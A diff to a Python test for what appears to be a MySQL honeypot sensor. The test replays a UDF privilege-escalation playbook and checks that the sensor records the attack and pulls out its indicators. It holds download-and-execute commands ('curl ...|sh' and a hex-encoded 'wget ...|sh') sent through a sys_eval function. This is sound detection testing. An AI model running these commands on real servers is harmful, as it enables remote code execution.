@@ -361,8 +361,11 @@ def test_udf_playbook(sensor):
     cur.execute("CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'")
     cur.execute("select sys_eval('curl http://198.51.100.7/x.sh|sh')")
     cur.fetchall()
+    hexed = "0x" + b"wget http://198.51.100.8/b -O-|sh".hex()
+    cur.execute(f"select sys_eval({hexed})")
+    assert cur.fetchall() == ((None,),)
     c.close()
-    cmds = sensor.wait_count(5, "command", network__protocol="mysql")
+    cmds = sensor.wait_count(6, "command", network__protocol="mysql")
     by = {get(e, "lure.command"): e for e in cmds}
     dump = by[f"SELECT {elf} INTO DUMPFILE '{plugin_dir}x.so'"]
     assert set(dump["tags"]) >= {"dumpfile", "elf"}
@@ -371,6 +374,8 @@ def test_udf_playbook(sensor):
     assert "udf" in ev["tags"]
     assert get(ev, "lure.indicators.url") == ["http://198.51.100.7/x.sh"]
     assert get(ev, "lure.indicators.ip") == ["198.51.100.7"]
+    ev = by[f"select sys_eval({hexed})"]
+    assert get(ev, "lure.indicators.url") == ["http://198.51.100.8/b"]
     assert all(get(e, "user.name") == "root" for e in cmds)
     login = sensor.wait_event("login", network__protocol="mysql", event__outcome="success")
     assert get(login, "lure.auth.password") == "root"
